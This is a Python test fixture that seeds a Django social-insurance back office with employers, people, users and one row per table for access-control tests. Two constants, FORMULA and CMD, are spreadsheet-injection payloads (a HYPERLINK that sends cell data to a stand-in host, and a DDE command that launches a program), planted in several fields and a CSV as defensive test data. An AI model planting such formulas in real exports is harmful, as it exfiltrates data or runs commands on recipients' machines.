"""A small world for the access tests (issue #12): two employers, their people, a person who moved from
employer 1 to employer 2, and one row of every table the back office shows.

Rows are written directly (not through the services): these tests are about who may see and change
them, not about how they are computed. Employer 1 is 甲公司, employer 2 乙公司.
"""

from __future__ import annotations

from datetime import date, datetime
from decimal import Decimal
from types import SimpleNamespace

from django.contrib.auth.models import Group
from django.core.files.base import ContentFile
from django.utils import timezone

from batch.models import BatchRun
from enrollment import services
from enrollment.models import EmployerUser, LifeEvent
from enrollment.roles import AUDITOR, BUREAU_ADMIN, CASE_WORKER, EMPLOYER_USER
from operations.demo.population import credit_code, id_number
from policy.models import Jurisdiction, PolicyParameter, ReferenceStatistic, ScenarioRun
from tests.conftest import make_user

D = Decimal
FORMULA = '=HYPERLINK("http://example.invalid/?"&A2,"点击")'
CMD = "=cmd|' /C calc'!A0"


def _aware(day: date) -> datetime:
    return timezone.make_aware(datetime(day.year, day.month, day.day, 9, 0))


def due(person, employer, month: date, total: str, **kw):
    from contributions.models import MonthlyDue

    amount = D(total)
    return MonthlyDue.objects.create(
        person=person,
        employer=employer,
        jurisdiction=employer.jurisdiction,
        month=month,
        category="employee",
        base=D("5000.00"),
        employer_amount=amount - D("100.00"),
        individual_amount=D("100.00"),
        personal_account_amount=D("0.00"),
        pool_amount=amount,
        total=amount,
        due_date=date(month.year, month.month, 15),
        created_at=_aware(month),
        **kw,
    )


def pay(person, due_row, reference: str, amount: str):
    from contributions.models import Payment, PaymentAllocation

    payment = Payment.objects.create(
        person=person,
        amount=D(amount),
        paid_on=due_row.due_date,
        source="manual",
        reference=reference,
        unapplied_amount=D("0.00"),
    )
    PaymentAllocation.objects.create(
        payment=payment, due=due_row, principal=D(amount), late_fee=D("0.00"), created_at=_aware(due_row.due_date)
    )
    return payment


def _institutions(w: SimpleNamespace, jurisdiction) -> None:
    """两定机构登记: one hospital with a rating, an agreement, an appraisal and a 医保医师."""
    from benefits.institutions.models import Agreement, Appraisal, Institution, InstitutionRating, InsurancePhysician

    w.institution = Institution.objects.create(
        fixmedins_code="H43010200099", name="访问测试医院", kind="hospital", jurisdiction=jurisdiction
    )
    InstitutionRating.objects.create(institution=w.institution, valid_from=date(2024, 1, 1), hospital_level="level2")
    Agreement.objects.create(institution=w.institution, number="ACCESS", start=date(2024, 1, 1))
    Appraisal.objects.create(institution=w.institution, year=2024, result="good", appraised_on=date(2024, 12, 1))
    InsurancePhysician.objects.create(
        institution=w.institution, code="D43010200099", name="访问测试医师", status_since=date(2024, 1, 1)
    )


def _institution_api(w: SimpleNamespace, jurisdiction) -> None:
    """机构接口 (issue #16 item 3): a login bound to the hospital and one settlement it submitted by API."""
    from django.contrib.auth import get_user_model

    from benefits.claims.models import ApiSettlement, Claim
    from benefits.institutions.models import InstitutionUser

    w.institution_login = get_user_model().objects.create_user(username="m_institution", password="pw-123456")
    w.institution_link = InstitutionUser.objects.create(user=w.institution_login, institution=w.institution)
    claim = Claim.objects.create(
        business_key="H43010200099:ACCESS-S1",
        person=w.p2,
        jurisdiction=jurisdiction,
        med_type="11",
        start_date=date(2024, 3, 2),
        institution=w.institution,
        source="api",
        medfee_sumamt=D(50),
        inscp_scp_amt=D(50),
    )
    w.api_settlement = ApiSettlement.objects.create(
        institution=w.institution, setl_id="ACCESS-S1", mdtrt_id="ACCESS-M1", claim=claim, digest="0" * 64
    )


def build_world() -> SimpleNamespace:
    from benefits.claims.models import BenefitAccumulator, Claim, SettlementFile
    from benefits.models import EligibilityPeriod, EligibilityState
    from contributions.models import (
        BackPaymentBill,
        ContributionBase,
        Deferral,
        EmployerBase,
        ImportJob,
        WageDeclaration,
    )
    from contributions.retirement.models import RetirementClearanceCase
    from funds.models import CreditSuspension, FundAccount, JournalEntry, Reconciliation, ShortfallSettlement

    w = SimpleNamespace()
    hunan = Jurisdiction.objects.get(code="hunan")
    w.e1 = services.employer_register(
        credit_code=credit_code("430102", 1), name="甲公司", jurisdiction="hunan", registered_on=date(2020, 1, 1)
    )
    w.e2 = services.employer_register(
        credit_code=credit_code("430102", 2), name="乙公司", jurisdiction="hunan", registered_on=date(2020, 1, 1)
    )

    def person(n: int, name: str, employer, start: date, end: date | None = None, phone: str = ""):
        p = services.person_register(id_number=id_number("430102", date(1980, 5, 17), n, True), name=name, phone=phone)
        services.span_open(person=p, jurisdiction="hunan", category="employee", start=start, employer=employer)
        if end is not None:
            p.spans.filter(employer=employer).update(end=end)
        return p

    w.p1 = person(1, "甲一", w.e1, date(2023, 1, 1), phone="13900000001")
    w.p2 = person(2, "乙一", w.e2, date(2023, 1, 1), phone="13900000002")
    # 调动: 甲公司 2023, then 乙公司 from 2024-01-01.
    w.mover = person(3, "调动人", w.e1, date(2023, 1, 1), end=date(2024, 1, 1), phone="13900000003")
    services.span_open(person=w.mover, jurisdiction="hunan", category="employee", start=date(2024, 1, 1), employer=w.e2)
    w.span2 = w.p2.spans.get()
    w.mover_span2 = w.mover.spans.get(employer=w.e2)

    w.admin = make_user("m_admin", BUREAU_ADMIN)
    w.worker = make_user("m_worker", CASE_WORKER)
    w.auditor = make_user("m_auditor", AUDITOR)
    w.emp1 = make_user("m_emp1", EMPLOYER_USER)
    w.emp2 = make_user("m_emp2", EMPLOYER_USER)
    EmployerUser.objects.create(user=w.emp1, employer=w.e1)
    w.emp2_link = EmployerUser.objects.create(user=w.emp2, employer=w.e2)
    w.users = {"admin": w.admin, "worker": w.worker, "auditor": w.auditor, "emp1": w.emp1, "emp2": w.emp2}

    # 征缴: dues, payments and allocations, bases and wages at each employer.
    w.due_p2 = due(w.p2, w.e2, date(2024, 3, 1), "600.00")
    w.pay_p2 = pay(w.p2, w.due_p2, "PAY-P2", "600.00")
    w.due_m1 = due(w.mover, w.e1, date(2023, 6, 1), "500.00")
    w.due_m2 = due(w.mover, w.e2, date(2024, 3, 1), "777.00")
    w.pay_m1 = pay(w.mover, w.due_m1, "PAY-MOVER-E1", "500.00")
    w.pay_m2 = pay(w.mover, w.due_m2, "PAY-MOVER-E2", "777.00")
    now = timezone.now()
    wages = ((w.p2, w.e2, 2024, "6100.00"), (w.mover, w.e1, 2023, "5100.00"), (w.mover, w.e2, 2024, "8888.00"))
    for p, e, year, wage in wages:
        ContributionBase.objects.create(
            person=p,
            employer=e,
            jurisdiction=hunan,
            year_start=date(year, 1, 1),
            category="employee",
            wage=D(wage),
            base=D(wage),
            basis="declared",
            updated_at=now,
        )
        WageDeclaration.objects.create(person=p, employer=e, year=year, monthly_wage=D(wage))
    EmployerBase.objects.create(
        employer=w.e2, year_start=date(2024, 1, 1), sum_of_individual_bases=D(1), updated_at=now
    )
    Deferral.objects.create(
        employer=w.e2, start=date(2024, 1, 1), end=date(2024, 4, 1), approved_on=date(2023, 12, 1), citation="测试"
    )
    BackPaymentBill.objects.create(
        person=w.p2,
        employer=w.e2,
        jurisdiction=hunan,
        start_month=date(2023, 1, 1),
        end_month=date(2023, 2, 1),
        months=1,
        rule="test",
        base=D(1),
        employer_amount=D(1),
        individual_amount=D(0),
        personal_account_amount=D(0),
        total=D(1),
        citation="测试",
        issued_on=date(2024, 1, 1),
        due_date=date(2024, 2, 1),
    )
    w.job = ImportJob.objects.create(
        kind="payroll", employer=w.e2, uploaded_by=w.worker, original_name="乙公司工资.csv", total_rows=1, error_rows=1
    )
    rows = f"身份证号,姓名,月工资\r\n{w.p2.id_number},{CMD},=1+1\r\n".encode()
    w.job.file.save("access-test.csv", ContentFile(rows), save=False)
    w.job.errors = [{"row": 2, "field": "月工资", "message": "不是数字"}]
    w.job.save()

    # 待遇, 清缴, 报销, 基金.
    EligibilityPeriod.objects.create(
        person=w.p2, jurisdiction=hunan, start=date(2023, 1, 1), status="covered", reason="测试", computed_at=now
    )
    EligibilityState.objects.create(person=w.p2, digest="x", computed_at=now)
    w.case = RetirementClearanceCase.objects.create(
        person=w.p2,
        jurisdiction=hunan,
        opened_on=date(2024, 1, 1),
        reason="pension_approved",
        retire_on=date(2040, 5, 1),
    )
    w.claim = Claim.objects.create(
        business_key="ACCESS-1",
        person=w.p2,
        jurisdiction=hunan,
        med_type="21",
        start_date=date(2024, 3, 1),
        end_date=date(2024, 3, 5),
        hospital_level="level1",
        medfee_sumamt=D(100),
        inscp_scp_amt=D(100),
    )
    BenefitAccumulator.objects.create(person=w.p2, jurisdiction=hunan, year=2024)
    # 单位变动 of employer 2 (recorded as a row, not applied) and a liability bill for its claim (issue #14)
    from benefits.claims.models import EmployerLiabilityBill
    from contributions.models import EmployerEvent

    w.employer_event = EmployerEvent.objects.create(
        employer=w.e2, jurisdiction=hunan, kind="closure", occurred_on=date(2024, 6, 1), rules="探针"
    )
    w.liability_bill = EmployerLiabilityBill.objects.create(
        claim=w.claim,
        employer=w.e2,
        person=w.p2,
        jurisdiction=hunan,
        amount=D(80),
        person_share=D(20),
        interruption_months=2,
        reason="探针",
        issued_on=date(2024, 4, 1),
    )
    # 第三人责任先行支付 (hunan 第三十五条): a case on the claim, being recovered
    from benefits.claims.models import ThirdPartyCase

    w.third_party_case = ThirdPartyCase.objects.create(
        claim=w.claim, person=w.p2, jurisdiction=hunan, applied_on=date(2024, 3, 6), reason="unknown",
        cause="交通事故，肇事车辆逃逸", state="recovering", advanced=D(80),
    )  # fmt: skip
    _institutions(w, hunan)
    _institution_api(w, hunan)
    settlement = SettlementFile(jurisdiction=hunan, as_of=date(2024, 4, 1), uploaded_by=w.worker)
    settlement.file.save("access-settlement.csv", ContentFile(b"business_key\r\n"), save=True)
    FundAccount.objects.create(
        jurisdiction=hunan, kind="personal", code="ACC-P2", opened_on=date(2023, 1, 1), person=w.p2
    )
    # a balanced entry through the ledger's own service (PostgreSQL's trigger refuses an entry without legs)
    from funds.models import AccountKind
    from funds.posting import Leg, fund_account, post_entry

    access_entry = post_entry(
        business_key="JE-ACCESS",
        kind=JournalEntry._meta.get_field("kind").choices[0][0],
        jurisdiction=hunan,
        effective_on=date(2024, 1, 1),
        legs=[
            Leg(fund_account(hunan, AccountKind.BANK), D(-100)),
            Leg(fund_account(hunan, AccountKind.POOLED), D(100)),
        ],
        memo="访问测试",
    )
    CreditSuspension.objects.create(employer=w.e2, start=date(2024, 1, 1), citation="测试")
    ShortfallSettlement.objects.create(person=w.p2, jurisdiction=hunan, paid_on=date(2024, 1, 1))
    Reconciliation.objects.create(ran_at=now, ok=True)
    _personal_registers(w, hunan, access_entry)
    _residents(w, access_entry)
    LifeEvent.objects.create(
        person=w.p2,
        kind="hire",
        occurred_on=date(2023, 1, 1),
        jurisdiction=hunan,
        employer=w.e2,
        reported_on=date(2023, 3, 1),  # late: past hunan's 30 days (第十七条), on the late-registration list
        report_deadline=date(2023, 1, 31),
    )

    # 政策, 批处理, 定时任务.
    ReferenceStatistic.objects.create(
        jurisdiction=hunan, key="annual_average_wage", effective_from=date(2024, 1, 1), period_label="2023", value=1
    )
    w.run = BatchRun.objects.create(job="contributions.dues_generate", as_of=date(2024, 3, 1), jurisdiction=hunan)
    _beat_rows()
    w.group = Group.objects.get(name=EMPLOYER_USER)
    w.parameter = PolicyParameter.objects.filter(jurisdiction=hunan).first() or PolicyParameter.objects.create(
        jurisdiction=hunan, key="test.key", effective_from=date(2020, 1, 1), value=1, citation="测试"
    )
    # 政策草案 by the case worker (the administrator may publish it: not the author) and a finished 测算 of it
    from batch.models import RunStatus
    from operations.models import Simulation
    from policy.models import PolicyDraft, PolicyDraftValue

    w.draft = PolicyDraft.objects.create(name="探针草案", created_by=w.users["worker"])
    PolicyDraftValue.objects.create(
        draft=w.draft,
        jurisdiction=hunan,
        key="contribution.employer_rate_pct",
        effective_from=date(2025, 1, 1),
        value="9",
        citation="测试",
    )
    sim_run = BatchRun.objects.create(
        job="operations.simulation", as_of=date(2024, 1, 1), status=RunStatus.DONE, chunk_count=1, chunks_done=1
    )
    w.simulation = Simulation.objects.create(
        draft=w.draft, period_start=date(2024, 1, 1), period_end=date(2025, 1, 1), run=sim_run, areas=["contributions"]
    )
    w.scenario_run = ScenarioRun.objects.create(
        ran_by=w.users["admin"], file_name="probe.yaml", yaml_text="- name: =1+1\n", results={"cases": []}
    )
    # one login lockout record of each kind (django-axes), so their pages open on a real row
    from axes.models import AccessAttempt, AccessFailureLog, AccessLog

    seen = {"user_agent": "pytest", "ip_address": "127.0.0.1", "username": "probe", "http_accept": "*/*"}
    AccessAttempt.objects.create(**seen, path_info="/admin/login/", get_data="", post_data="", failures_since_start=1)
    AccessLog.objects.create(**seen, path_info="/admin/login/")
    AccessFailureLog.objects.create(**seen, path_info="/admin/login/", locked_out=False)
    # 打印文书 (issue #19 item 6): a finished bulk run of employer 2 and one document it issued
    from operations.models import DocumentBatch, IssuedDocument

    w.doc_batch = DocumentBatch.objects.create(
        employer=w.e2, kind="enrolment", as_of=date(2024, 6, 1), status="done", total=1, done=1,
        base_url="http://testserver", requested_by=w.worker,
    )  # fmt: skip
    w.doc_batch.file.save("access-batch.zip", ContentFile(b"PK\x05\x06" + bytes(18)), save=True)
    w.document = IssuedDocument.objects.create(
        kind="enrolment", code="ACCESS234567", person=w.p2, subject_masked="乙*",
        subject_id_masked="430102********0000", as_of=date(2024, 6, 1), digest="0" * 64, issued_by=w.worker,
        issued_at=now, batch=w.doc_batch,
    )  # fmt: skip
    # 增减员申请 of employer 2 (issue #14) with an attachment, reported late (hunan 第十七条)
    from enrollment.models import EmployerRequest, RequestAttachment

    w.employer_request = EmployerRequest.objects.create(
        employer=w.e2,
        jurisdiction=hunan,
        kind="separation",
        id_number=w.p2.id_number,
        name=w.p2.name,
        occurred_on=date(2024, 3, 1),
        person=w.p2,
        submitted_on=date(2024, 5, 1),
        submitted_at=_aware(date(2024, 5, 1)),
        submitted_by=w.emp2,
        report_deadline=date(2024, 3, 31),
    )
    w.attachment = RequestAttachment(request=w.employer_request, original_name="离职证明.pdf", size=9)
    w.attachment.file.save("access-proof.pdf", ContentFile(b"%PDF-1.4\n"), save=True)
    # a machine token of employer 2's user and one audited API write (issue #16), for their admin pages
    from knox.models import AuthToken

    from apiaudit.models import ApiWrite

    w.token, w.token_text = AuthToken.objects.create(user=w.users["emp2"])
    # a finished 接口导出 of employer 2's user (issue #16 item 4): seen and downloaded by its owner only
    from operations.models import ExportJob

    w.export_job = ExportJob.objects.create(resource="dues", status="done", rows=0, requested_by=w.users["emp2"])
    w.export_job.file.save("access-export.xlsx", ContentFile(b"PK\x03\x04"), save=True)
    ApiWrite.objects.create(
        user=w.users["emp2"], token_key=w.token.token_key, method="POST", path="/api/v1/x/", status=201
    )
    return w


def _personal_registers(w, hunan, entry) -> None:
    """One row of each register of issue #17 for person 2 (备案, 慢特病认定, 家庭共济, 账户支付, 余额支付)."""
    from benefits.registers.models import ChronicCertification, OutOfAreaFiling
    from contributions.models import Payment
    from funds.models import AccountPayout, AccountUse, ContributionRefund, FamilyBinding, Prepayment

    OutOfAreaFiling.objects.create(
        person=w.p2,
        jurisdiction=hunan,
        kind="long_term",
        place=FORMULA,
        filed_on=date(2024, 1, 1),
        start=date(2024, 1, 1),
    )
    ChronicCertification.objects.create(
        person=w.p2, jurisdiction=hunan, disease_code="M001", disease_name=CMD, applied_on=date(2024, 1, 1)
    )
    binding = FamilyBinding.objects.create(
        holder=w.p2,
        jurisdiction=hunan,
        member_name=FORMULA,
        member_id_number=id_number("430102", date(2010, 5, 17), 9, True),
        relationship="child",
        proof="户口簿",
        start=date(2024, 1, 1),
    )
    AccountUse.objects.create(
        holder=w.p2,
        jurisdiction=hunan,
        purpose="pharmacy",
        binding=binding,
        amount=D(10),
        used_on=date(2024, 2, 1),
        status="refused",
        reason="测试",
    )
    AccountPayout.objects.create(
        holder=w.p2,
        jurisdiction=hunan,
        ground="special_circumstances",
        bank_name="测试银行",
        bank_account="6222000011112222",
        paid_on=date(2024, 3, 1),
        amount=D(1),
        entry=entry,
    )
    payment = Payment.objects.create(
        person=w.p2, amount=D(12), paid_on=date(2024, 12, 1), source="manual", reference="YJ-W2", unapplied_amount=D(12)
    )
    pre = Prepayment.objects.create(
        person=w.p2,
        jurisdiction=hunan,
        kind="critical_illness_annual",
        start_month=date(2025, 1, 1),
        months=12,
        monthly_amount=D(1),
        monthly_refundable=D(0),
        total=D(12),
        paid_on=date(2024, 12, 1),
        payment=payment,
        citation=FORMULA,
        detail={"years": FORMULA},
    )
    ContributionRefund.objects.create(
        person=w.p2,
        jurisdiction=hunan,
        kind="prepaid_remainder",
        ground="death",
        event_on=date(2025, 2, 1),
        refunded_on=date(2025, 2, 2),
        prepayment=pre,
        months=1,
        amount=D(1),
        citation=FORMULA,
    )


def _residents(w, entry) -> None:
    """城乡居民 (issue #15): a household of sanmenxia with its head's resident span, a yearly bill, a fund receipt."""
    from contributions.models import ResidentDue
    from enrollment.models import EnrolmentSpan, Household, HouseholdMember, InsuredPerson
    from funds.models import ResidentFundReceipt

    smx = Jurisdiction.objects.get(code="sanmenxia")
    w.resident = services.person_register(id_number=id_number("411202", date(1975, 2, 3), 7, True), name="居民甲")
    EnrolmentSpan.objects.create(
        person=w.resident, jurisdiction=smx, category="resident", insutype="390", resident_kind="rural",
        start=date(2024, 1, 1),
    )  # fmt: skip
    w.household = Household.objects.create(
        jurisdiction=smx, head=w.resident, address=FORMULA, registered_on=date(2023, 9, 1)
    )
    HouseholdMember.objects.create(
        household=w.household, person=w.resident, relation="head", joined_on=date(2023, 9, 1)
    )
    ResidentDue.objects.create(
        person=w.resident, jurisdiction=smx, benefit_year=2024, resident_kind="rural", individual_amount=D("380"),
        subsidy_amount=D("670"), window_start=date(2023, 9, 1), window_end=date(2024, 1, 1),
        created_at=_aware(date(2023, 9, 1)),
    )  # fmt: skip
    ResidentFundReceipt.objects.create(
        jurisdiction=smx, kind="subsidy_central", year=2024, amount=D("1"), received_on=date(2024, 2, 1),
        reference=CMD, entry=entry,
    )  # fmt: skip
    assert InsuredPerson.objects.filter(pk=w.resident.pk).exists()


def _beat_rows() -> None:
    from django_celery_beat.models import (
        ClockedSchedule,
        CrontabSchedule,
        IntervalSchedule,
        PeriodicTask,
        SolarSchedule,
    )

    interval = IntervalSchedule.objects.create(every=1, period="days")
    CrontabSchedule.objects.create()
    ClockedSchedule.objects.create(clocked_time=timezone.now())
    SolarSchedule.objects.create(event="sunrise", latitude=28, longitude=113)
    PeriodicTask.objects.create(name="access-test", task="noop", interval=interval)
